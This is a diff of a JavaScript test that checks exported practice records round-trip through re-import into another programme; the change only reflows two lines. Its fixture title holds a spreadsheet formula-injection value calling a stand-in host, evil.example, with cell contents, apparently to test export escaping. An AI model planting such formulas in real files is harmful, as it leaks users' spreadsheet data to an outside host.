@@ -88,10 +88,16 @@ describe("re-importing the coordinator's export into another programme", () => {
     await clearOtherProgramme();
     const original = await exportedRecords('coordinator');
     expect(original.map((record) => record.status)).toEqual(['draft', 'declined', 'draft', 'draft', 'proposed', 'published', 'returned', 'submitted']);
-    expect(original[0]).toMatchObject({ title: '=HYPERLINK("http://evil.example/?d="&A1,"Roundtrip")', summary: "'=1+1 is how a formula starts; '' too", keywords: ['e-government, open government', 'smart city; data', 'roundtrip', 'C:\\back\\slash'] });
+    expect(original[0]).toMatchObject({
+      title: '=HYPERLINK("http://evil.example/?d="&A1,"Roundtrip")',
+      summary: "'=1+1 is how a formula starts; '' too",
+      keywords: ['e-government, open government', 'smart city; data', 'roundtrip', 'C:\\back\\slash'],
+    });
 
     const importer = await fixture.browserFor('otherCoordinator');
-    const upload = { file: { filename: `library.${format}`, content: await exported('coordinator', format), contentType: format === 'csv' ? 'text/csv' : 'application/json' } };
+    const upload = {
+      file: { filename: `library.${format}`, content: await exported('coordinator', format), contentType: format === 'csv' ? 'text/csv' : 'application/json' },
+    };
     const page = readPage(await importer.upload('/practices/import', upload, { programmeId: String(fixture.world.otherProgramme.id) }));
     expect(page.screen.getByRole('heading', { level: 1 }).textContent).toBe('8 practices imported');
 
